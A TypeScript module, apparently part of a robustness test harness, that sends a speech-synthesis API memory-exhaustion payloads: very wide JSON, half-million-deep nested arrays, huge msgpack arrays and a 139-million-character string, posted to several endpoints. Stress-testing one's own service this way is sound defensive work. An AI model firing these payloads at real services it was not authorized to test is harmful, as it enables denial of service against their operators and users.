import { encode } from "@msgpack/msgpack";
import type { Attack } from "../attack.js";
import { ask, authorized, repeatedly } from "../connection.js";

const post = (headers: Record<string, string>, body: string | Uint8Array<ArrayBuffer>): RequestInit => ({
  method: "POST",
  headers,
  body,
});

/** What is small on the wire and large in memory. */
export const explodingBodies: Attack = {
  name: "sends large bodies of many small values, deep and wide",
  needsKey: true,
  async run(target, signal) {
    const headers = authorized(target);
    const json = { ...headers, "content-type": "application/json" };
    const wide = JSON.stringify({ text: "a", voice_settings: Array.from({ length: 300_000 }, () => ({})) });
    const deep = `${"[".repeat(500_000)}${"]".repeat(500_000)}`;
    const packed = new Uint8Array(encode({ text: "a", references: Array.from({ length: 2_000_000 }, () => 1) }));
    const nested = new Uint8Array(4_000_000).fill(0x91);
    const bodies: [string, RequestInit][] = [
      ["/compat/elevenlabs/v1/text-to-speech/default", post(json, wide)],
      ["/compat/elevenlabs/v1/text-to-speech/default", post(json, `{"text":"${"a".repeat(139_000_000)}"}`)],
      ["/compat/openai/v1/audio/speech", post(json, deep)],
      ["/compat/openai/v1/chat/completions", post(json, wide)],
      ["/v1/tts", post({ ...headers, "content-type": "application/msgpack" }, packed)],
      ["/v1/tts", post({ ...headers, "content-type": "application/msgpack" }, nested)],
      ["/v1/agent/agents", post(json, wide)],
      ["/model", post({ ...headers, "content-type": "application/msgpack" }, packed)],
    ];
    await repeatedly(4, signal, async () => {
      const [path, init] = bodies[Math.floor(target.random() * bodies.length)] ?? ["/", {}];
      await ask(target, path, init, signal);
    });
  },
};
